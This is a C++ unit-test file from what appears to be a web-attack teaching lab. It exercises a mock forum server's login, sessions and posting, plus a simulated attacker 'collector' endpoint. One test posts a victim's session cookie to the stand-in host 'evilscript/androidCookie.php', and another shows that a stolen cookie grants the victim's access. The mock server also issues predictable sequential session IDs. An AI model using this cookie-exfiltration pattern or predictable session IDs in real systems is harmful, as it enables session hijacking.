/*
 * Copyright 2026 The wvlab Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

#include "wvlab/servers.hpp"

#include <gtest/gtest.h>

#include <random>

#include "wvlab/form.hpp"

using namespace wvlab;

namespace {

HttpRequest req(Method m, const std::string& path, std::optional<std::string> body = std::nullopt,
                std::optional<std::string> cookie = std::nullopt) {
  Headers h;
  if (cookie) h.emplace_back("Cookie", *cookie);
  return build_request(m, "http://victim.example" + path, std::move(h), std::move(body));
}

std::string login_body(const std::string& user, const std::string& pass) {
  return form_encode({{"username", user}, {"password", pass}});
}

BoardServer board() {
  BoardServer b("victim.example");
  b.add_user("alice", "wonderland");
  b.add_user("bob", "p&ss=%");
  return b;
}

std::string issued_cookie(const HttpResponse& r) {
  const auto set = r.header("Set-Cookie");
  return set ? set->substr(0, set->find(';')) : "";
}

}  // namespace

TEST(Form, EncodeDecode) {
  EXPECT_EQ(form_encode({{"a", "1"}, {"b&c", "x=y%"}}), "a=1&b%26c=x%3Dy%25");
  EXPECT_EQ(form_decode("a=1&b%26c=x%3Dy%25"), (FormFields{{"a", "1"}, {"b&c", "x=y%"}}));
  EXPECT_EQ(form_decode("flag&&k="), (FormFields{{"flag", ""}, {"k", ""}}));
  EXPECT_EQ(form_decode("k=%41%"), (FormFields{{"k", "%41%"}}));
  std::mt19937_64 rng(5);
  for (int i = 0; i < 500; ++i) {
    FormFields f;
    for (int k = 0; k < static_cast<int>(rng() % 4); ++k) {
      std::string key(1 + rng() % 6, 'k'), val(rng() % 8, 'v');
      for (auto& c : key) c = "ab&=%3D"[rng() % 7];
      for (auto& c : val) c = "xy&=%25"[rng() % 7];
      f.emplace_back(key, val);
    }
    EXPECT_EQ(form_decode(form_encode(f)), f);
  }
}

TEST(Board, LoginIssuesSequentialSessions) {
  BoardServer b = board();
  const auto r1 = b.handle(req(Method::Post, "/login", login_body("alice", "wonderland")), 1);
  EXPECT_EQ(r1.status, 302);
  EXPECT_EQ(r1.header("Set-Cookie"), "sessionid=s00000001; domain=victim.example; path=/");
  EXPECT_EQ(r1.header("Location"), "/forum/list");
  const auto r2 = b.handle(req(Method::Post, "/login", login_body("bob", "p&ss=%")), 2);
  EXPECT_EQ(issued_cookie(r2), "sessionid=s00000002");
  EXPECT_EQ(b.sessions().size(), 2u);

  EXPECT_EQ(b.handle(req(Method::Post, "/login", login_body("alice", "wrong")), 3).status, 401);
  EXPECT_EQ(b.handle(req(Method::Post, "/login", login_body("mallory", "x")), 3).status, 401);
  EXPECT_EQ(b.handle(req(Method::Post, "/login", ""), 3).status, 401);
  EXPECT_EQ(b.sessions().size(), 2u);
}

TEST(Board, RoutingErrors) {
  BoardServer b = board();
  EXPECT_EQ(b.handle(req(Method::Get, "/nope"), 1).status, 404);
  EXPECT_EQ(b.handle(req(Method::Post, "/account", ""), 1).status, 405);
  EXPECT_EQ(b.handle(req(Method::Get, "/post"), 1).status, 405);
  EXPECT_EQ(b.handle(req(Method::Delete, "/forum/list"), 1).status, 405);
  EXPECT_EQ(b.handle(req(Method::Put, "/login", ""), 1).status, 405);
  EXPECT_EQ(b.handle(req(Method::Get, "/forum/list"), 1).status, 200);
  EXPECT_EQ(b.handle(req(Method::Get, "/login"), 1).status, 200);
}

TEST(Board, AccountAndPostNeedSession) {
  BoardServer b = board();
  EXPECT_EQ(b.handle(req(Method::Get, "/account"), 1).status, 401);
  EXPECT_EQ(b.handle(req(Method::Post, "/post", "text=x"), 1).status, 401);
  const auto cookie = issued_cookie(b.handle(req(Method::Post, "/login", login_body("alice", "wonderland")), 2));
  const auto acct = b.handle(req(Method::Get, "/account", std::nullopt, "lang=en; " + cookie), 3);
  EXPECT_EQ(acct.status, 200);
  EXPECT_NE(acct.body.find("alice"), std::string::npos);
  EXPECT_EQ(b.handle(req(Method::Post, "/post", "text=hacked", cookie), 4).status, 200);
  ASSERT_EQ(b.posts().size(), 1u);
  EXPECT_EQ(b.posts()[0], (BoardPost{"alice", "hacked"}));
  EXPECT_NE(b.handle(req(Method::Get, "/forum/list"), 5).body.find("alice: hacked"), std::string::npos);
}

TEST(Board, StolenCookieHasSameAuthentication) {
  BoardServer b = board();
  const auto cookie = issued_cookie(b.handle(req(Method::Post, "/login", login_body("alice", "wonderland")), 1));
  // The request carries no notion of who sent it; identical requests give
  // identical answers whoever presents the session.
  const auto victim = b.handle(req(Method::Get, "/account", std::nullopt, cookie), 2);
  const auto attacker = b.handle(req(Method::Get, "/account", std::nullopt, cookie), 3);
  EXPECT_EQ(victim, attacker);
}

TEST(Board, ForgedSessionsAlwaysRejected) {
  BoardServer b = board();
  b.handle(req(Method::Post, "/login", login_body("alice", "wonderland")), 1);
  std::mt19937_64 rng(17);
  for (int i = 0; i < 1000; ++i) {
    std::string sid = rng() % 2 ? BoardServer::session_id(2 + rng() % 100000) : std::to_string(rng());
    const auto r = b.handle(req(Method::Get, "/account", std::nullopt, "sessionid=" + sid), 2);
    EXPECT_EQ(r.status, b.sessions().contains(sid) ? 200 : 401);
    EXPECT_EQ(r.status, 401);
  }
}

TEST(Collector, StoresVerbatim) {
  CollectorServer c;
  const auto post = build_request(Method::Post, "http://evilscript/androidCookie.php", {},
                                  "url=http://victim.example/forum/list&cookie=sessionid=abc123");
  EXPECT_EQ(c.handle(post, 4).status, 200);
  EXPECT_EQ(c.handle(build_request(Method::Get, "http://evilscript/"), 5).status, 405);
  EXPECT_EQ(c.handle(build_request(Method::Put, "http://evilscript/put", {}, std::string("a\0b", 3)), 6).status, 200);
  ASSERT_EQ(c.payloads().size(), 2u);
  EXPECT_EQ(c.payloads()[0],
            (CollectorServer::Payload{4, "/androidCookie.php", "url=http://victim.example/forum/list&cookie=sessionid=abc123"}));
  EXPECT_EQ(c.payloads()[1].body, std::string("a\0b", 3));
}

TEST(CookieHeader, Lookup) {
  EXPECT_EQ(cookie_header_value("a=1; sessionid=s1; b=2", "sessionid"), "s1");
  EXPECT_EQ(cookie_header_value("xsessionid=s1", "sessionid"), std::nullopt);
  EXPECT_EQ(cookie_header_value("", "a"), std::nullopt);
}
